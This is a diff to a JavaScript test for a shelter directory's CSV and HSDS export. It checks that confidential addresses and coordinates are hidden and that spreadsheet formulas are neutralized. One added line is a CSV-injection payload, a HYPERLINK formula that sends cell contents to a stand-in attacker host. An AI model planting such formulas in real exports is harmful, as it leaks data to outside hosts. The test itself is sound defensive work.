@@ -161,6 +161,14 @@ test('export CSV and HSDS, with confidential rules', async () => {
   assert.ok(b.text.includes('書出秘匿シェルター'));
   assert.ok(!b.text.includes('秘密町9-9-9'), 'staff_b export hides the address');
   assert.ok(!b.text.includes('35.4123') && !b.text.includes('139.6123'), 'staff_b export hides the coordinates');
+  const line = b.text.split('\r\n').find((l) => l.includes('書出秘匿シェルター'));
+  assert.ok(!line.includes('みなと市さくら区'), `staff_b export hides the city part of the address too: ${line}`);
+  // A cell a spreadsheet would run as a formula gets an apostrophe (CSV injection).
+  const evil = '=HYPERLINK("https://evil.example/?a="&G2&H2,"詳細")';
+  await createResource(w.staffA, resourceInput(w.staffA.user.org_id, w.d1.id, { name: evil, phone: '045-000-4444' }));
+  const c2 = await w.coord.get('/api/v1/export?format=csv');
+  assert.ok(c2.text.includes(`"'=HYPERLINK(""https://evil.example/`), 'the formula is neutralized');
+  assert.ok(!/(^|,)"?=HYPERLINK/m.test(c2.text), 'no cell starts with =');
   const h = await w.staffB.get('/api/v1/export?format=hsds');
   assert.equal(h.status, 200);
   assert.ok(h.raw.length > 0);
